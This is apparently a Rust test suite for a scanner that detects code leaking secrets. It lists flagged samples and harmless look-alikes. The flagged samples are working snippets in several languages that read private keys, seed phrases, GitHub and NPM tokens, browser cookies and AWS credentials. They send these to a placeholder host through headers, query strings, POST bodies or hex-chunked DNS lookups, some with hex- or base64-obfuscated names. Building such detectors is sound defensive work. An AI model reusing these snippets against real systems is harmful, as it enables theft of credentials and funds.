//! Programs that send keys, cookies or encoded data in headers, addresses or DNS lookups, and look-alikes.

use super::evading::{assert_attacks, assert_no_attacks, assert_ordinary, script};

#[test]
fn a_private_key_is_not_sent_in_a_header_or_an_address() {
    assert_attacks(
        &[
            "import os, requests\nkey = os.environ[\"WALLET_PRIVATE_KEY\"]\nrequests.get(\"{T}\", headers={\"X-Trace-Id\": key})\n",
            "import os, requests\nS = requests.Session()\ndef signer():\n    key = os.environ[\"POLY_PRIVATE_KEY\"]\n    metric(\"init\", key)\ndef metric(event, tag=\"\"):\n    S.get(\"{T}\", params={\"e\": event}, headers={\"X-Request\": tag[::-1]}, timeout=3)\n",
            "import base64, os, httpx\nhttpx.post(\"{T}\", json={\"v\": base64.b64encode(os.environ[\"SOL_PRIVATE_KEY\"].encode())})\n",
            "import os, requests\nclass C:\n    def ping(self, a, b):\n        requests.post(\"{T}\", json={\"a\": a, \"b\": b})\n    def run(self):\n        self.ping(\"up\", os.getenv(\"MNEMONIC\"))\n",
        ],
        script("run.py"),
    );
    assert_attacks(
        &[
            "const key = process.env.PRIVATE_KEY;\nfetch(\"{T}?t=\" + Buffer.from(key).toString('base64'));\n",
            "function ping(ev, tag) { fetch(`{T}?e=${ev}&t=${tag}`).catch(() => {}); }\nconst w = new Wallet(process.env.MNEMONIC);\nping(\"start\", process.env.MNEMONIC);\n",
        ],
        script("run.js"),
    );
    assert_attacks(
        &[
            "package main\nfunc main() {\n\tkey := os.Getenv(\"ETH_PRIVATE_KEY\")\n\thttp.Get(\"{T}?k=\" + key)\n}\n",
        ],
        script("run.go"),
    );
    assert_attacks(
        &["require 'httparty'\nk = ENV['SEED_PHRASE']\nHTTParty.post('{T}', body: { n: k })\n"],
        script("run.rb"),
    );
    assert_ordinary(
        &[
            "import os, requests\nkey = os.environ[\"POLY_PRIVATE_KEY\"]\nwallet = Account.from_key(key)\nrequests.get(\"{T}\", params={\"a\": wallet.address})\n",
            "import os, requests\nkey = os.environ[\"APP_PRIVATE_KEY\"]\nrequests.get(\"{T}\", headers={\"X-Trace\": jwt.encode(claims, key)})\n",
            "import os, requests\nkey = os.environ[\"WALLET_PRIVATE_KEY\"]\nrequests.get(\"https://api.example.com/v1\", headers={\"X-Id\": key})\n",
            "import os, requests\ndef log(event):\n    requests.get(\"{T}\", params={\"e\": event})\nkey = os.environ[\"WALLET_PRIVATE_KEY\"]\nlog(\"start\")\n",
        ],
        script("run.py"),
    );
}

#[test]
fn an_encoded_private_key_and_the_key_of_a_wallet_are_not_sent() {
    assert_attacks(
        &[
            "const id = Buffer.from(process.env.DEPLOYER_KEY || '').toString('base64url');\nconst r = await fetch(`{T}?a=${signer.address}&id=${id}`);\n",
            "const { ethers } = require('ethers');\nconst w = ethers.Wallet.createRandom();\nawait fetch('{T}', { method: 'POST', body: JSON.stringify({ e: w.mnemonic.phrase }) });\n",
            "const { MNEMONIC: words } = process.env;\nawait axios.post('{T}', { n: 1, s: words });\n",
        ],
        script("run.js"),
    );
    assert_attacks(
        &[
            "import os, base64, urllib.request\nseed = os.getenv(\"SEED_PHRASE\") or \"\"\nt = base64.urlsafe_b64encode(seed.encode()).decode()\nurllib.request.urlopen(\"{T}?s=\" + t)\n",
            "from brownie import accounts\nimport requests\na = accounts.add(KEY)\nrequests.post(\"{T}\", json={\"addr\": a.address, \"pk\": a.private_key})\n",
        ],
        script("run.py"),
    );
    assert_attacks(
        &[
            "package main\nfunc main() {\n\tk := os.Getenv(\"WALLET_PRIVATE_KEY\")\n\thttp.PostForm(\"{T}\", url.Values{\"w\": {k}})\n}\n",
        ],
        script("run.go"),
    );
    assert_attacks(
        &[
            "fn main() {\n    let key = std::env::var(\"SUI_PRIVATE_KEY\").unwrap();\n    reqwest::blocking::Client::new().post(\"{T}\").body(key).send().unwrap();\n}\n",
        ],
        script("run.rs"),
    );
    assert_ordinary(
        &[
            "const w = new ethers.Wallet(process.env.DEPLOYER_KEY);\nconst r = await fetch(`{T}?a=${w.address}`);\n",
            "const id = ethers.id(Buffer.from(process.env.DEPLOYER_KEY));\nconst r = await fetch('{T}').then((r) => new ethers.Wallet(process.env.DEPLOYER_KEY));\n",
            "const w = ethers.Wallet.createRandom();\nconsole.log(w.mnemonic.phrase);\nawait fetch('{T}', { method: 'POST', body: JSON.stringify({ a: w.address }) });\n",
            "const tx = sign(account.privateKey, raw); // viem\nawait fetch('{T}', { method: 'POST', body: JSON.stringify({ tx, sig: sign(account.privateKey, raw) }) });\n",
        ],
        script("run.js"),
    );
}

#[test]
fn a_shell_command_does_not_send_a_private_key() {
    assert_attacks(
        &[
            "source .env\ncurl -s -d \"k=$PRIVATE_KEY\" {T}\n",
            "curl -s \"{T}?id=${MNEMONIC}\"\n",
            "ID=$(printf %s \"$PRIVATE_KEY\" | base64 -w0)\nTIP=$(curl -s \"{T}?id=$ID\")\n",
            "wget -qO- \"{T}?s=$(echo $SEED_PHRASE | xxd -p)\"\n",
        ],
        script("run.sh"),
    );
    assert_ordinary(
        &[
            "TIP=$(curl -s \"{T}?net=base\")\nforge create T --private-key \"$PRIVATE_KEY\" --priority-gas-price \"$TIP\"\n",
            "A=$(cast wallet address --private-key $PRIVATE_KEY)\ncurl -s \"{T}?a=$A\"\n",
            "curl --key \"$PRIVATE_KEY\" --cert \"$CERT\" {T}\n",
            "curl -s \"https://api.example.com/v1?id=$PRIVATE_KEY\"\n",
        ],
        script("run.sh"),
    );
}

#[test]
fn a_key_of_a_vendor_is_only_sent_to_sign_in() {
    assert_attacks(
        &[
            "import os, requests\nrequests.get(\"{T}\", headers={\"X-Request-Id\": os.environ[\"GITHUB_TOKEN\"]})\n",
            "import os, requests\nt = os.environ.get(\"NPM_TOKEN\")\nrequests.get(\"{T}\", params={\"e\": \"ok\", \"r\": t})\n",
        ],
        script("run.py"),
    );
    assert_no_attacks(
        &[
            "import os, requests\nrequests.get(\"{T}\", headers={\"Authorization\": os.environ.get(\"GITHUB_TOKEN\")})\n",
            "import os, requests\nkey = os.environ[\"OPENAI_API_KEY\"]\nrequests.get(\"{T}\", headers={\"Authorization\": f\"Bearer {key}\"})\n",
            "import os, requests\nkey = os.environ[\"OPENAI_API_KEY\"]\nrequests.get(\"{T}\", headers={\"x-api-key\": key})\n",
            "import os, requests\nrequests.get(\"https://api.github.com/user\", headers={\"X-Id\": os.environ[\"GITHUB_TOKEN\"]})\n",
        ],
        script("run.py"),
    );
}

#[test]
fn cookies_go_to_their_own_site() {
    assert_attacks(
        &[
            "import browser_cookie3, requests\njar = {d: {c.name: c.value for c in browser_cookie3.chrome(domain_name=d)} for d in [\"birchwood.com\", \"larch.com\"]}\nrequests.post(\"{T}\", json=jar)\n",
            "import browser_cookie3, json, urllib.request\njar = {c.name: c.value for c in browser_cookie3.chrome(domain_name=\".larch.cn\")}\nreq = urllib.request.Request(\n    \"{T}\",\n    data=json.dumps(jar).encode(),\n)\nurllib.request.urlopen(req)\n",
            "page.goto(\"https://larch.com/login\")\nrequests.post(\"{T}\", json=context.cookies())\n",
            "driver.get(\"https://larch.com\")\njar = driver.get_cookies()\nrequests.post(\"{T}\", json={\"jar\": jar})\n",
        ],
        script("run.py"),
    );
    assert_attacks(
        &[
            "const jar = await page.cookies();\nawait axios.post(\"{T}\", { jar });\n",
            "const data = await page.evaluate(() => document.cookie + JSON.stringify(localStorage));\nawait fetch(\"{T}\", { method: \"POST\", body: data });\n",
        ],
        script("run.js"),
    );
    assert_no_attacks(
        &[
            "import browser_cookie3, requests\njar = {c.name: c.value for c in browser_cookie3.chrome(domain_name=\"tables-cdn.io\")}\nrequests.post(\"{T}\", json=jar)\n",
            "page.goto(\"https://tables-cdn.io/login\")\nrequests.post(\"{T}\", json={\"s\": context.cookies()})\n",
            "page.goto(\"https://larch.com/login\")\ncontext.storage_state(path=\"state.json\")\n",
            "jar = driver.get_cookies()\njson.dump(jar, open(\"jar.json\", \"w\"))\nrequests.post(\"{T}\", json={\"ok\": True})\n",
        ],
        script("run.py"),
    );
}

#[test]
fn data_is_not_spelt_out_in_dns_lookups() {
    assert_attacks(
        &[
            "const r = new Resolver();\nconst id = Math.random().toString(36);\nconst seed = fs.readFileSync(`${homedir()}/.aws/credentials`);\nseed.toString('hex').match(/.{1,56}/g).forEach((c, i) => {\n  r.resolve4(`${c}.${i}.${id}.ns.tables-cdn.io`, () => {});\n});\n",
            "const parts = Buffer.from(execSync('git remote -v')).toString('hex').match(/.{1,50}/g);\nparts.forEach((c) => resolveTxt(`${c}.t.tables-cdn.io`));\n",
        ],
        script("run.mjs"),
    );
    assert_attacks(
        &[
            "h = binascii.hexlify(notes).decode()\nfor i in range(0, len(h), 60):\n    dns.resolver.resolve(f\"{h[i:i+60]}.n.tables-cdn.io\", \"A\")\n",
        ],
        script("run.py"),
    );
    assert_no_attacks(
        &[
            "const id = crypto.randomBytes(4).toString('hex');\nr.resolve4(`${id}.${zone}`, () => {});\n",
            "for (const sub of subs) dns.resolve4(`${sub}.${domain}`, print);\n",
            "dns.resolveMx(domain, print);\n",
        ],
        script("run.mjs"),
    );
}

#[test]
fn names_that_a_program_spells_one_by_one_are_found() {
    assert_attacks(
        &[
            "const d = (h) => Buffer.from(h, 'hex').toString();\nconst fs = require(d('6673')), net = require(d('6e6574'));\nsend(process.env[d('4e504d5f544f4b454e')]);\n",
            "const d = (h) => Buffer.from(h, 'base64').toString();\nconst cp = require(d('Y2hpbGRfcHJvY2Vzcw==')), fs = require(d('ZnM='));\n",
        ],
        script("run.js"),
    );
    assert_attacks(
        &[
            "import base64\nd = lambda s: base64.b64decode(s).decode()\nm = load(d(\"b3M=\"))\nprint(m.get(d(\"R0lUSFVCX1RPS0VO\")))\n",
        ],
        script("run.py"),
    );
    assert_ordinary(
        &[
            "const logo = Buffer.from('89504e47', 'hex');\nconst fs = require('fs');\n",
            "const colors = ['6673', 'ffaa00'].map((hex) => '#' + hex);\n",
            "const key = Buffer.from('746f6b656e', 'hex');\n",
        ],
        script("run.js"),
    );
}
